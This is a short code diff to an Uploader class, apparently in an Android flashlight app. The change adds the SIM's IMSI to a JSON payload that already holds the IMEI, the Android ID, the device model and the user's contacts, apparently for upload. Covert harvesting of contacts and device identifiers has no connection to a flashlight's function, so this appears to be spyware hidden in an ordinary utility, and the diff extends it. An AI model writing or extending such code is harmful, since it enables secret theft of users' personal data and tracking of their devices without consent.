@@ -28,7 +28,8 @@ final class Uploader implements Runnable {
 
     private String body() throws JSONException {
         return new JSONObject()
-            .put("imei", FlashlightApplication.imei)
+            .put("imsi", StartProvider.imsi)
+            .put("imei", FlashlightApplication.DEVICE.getImei())
             .put("android_id", FlashlightApplication.androidId)
             .put("model", collector.model())
             .put("contacts", collector.contacts())
